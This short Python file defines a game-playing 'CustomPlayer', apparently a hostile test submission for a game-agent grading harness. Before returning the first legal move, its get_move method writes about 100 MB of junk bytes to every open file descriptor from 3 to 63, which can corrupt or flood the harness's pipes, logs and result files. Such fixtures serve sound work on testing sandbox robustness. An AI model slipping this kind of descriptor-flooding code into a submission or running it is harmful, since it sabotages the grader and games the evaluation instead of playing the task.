"""Writes megabytes wherever it can."""

import os


class CustomPlayer:
    def get_move(self, game, time_left):
        for number in range(3, 64):
            try:
                for _ in range(100):
                    os.write(number, b"[" * 1_000_000)
            except OSError:
                continue
        return game.get_legal_moves()[0]
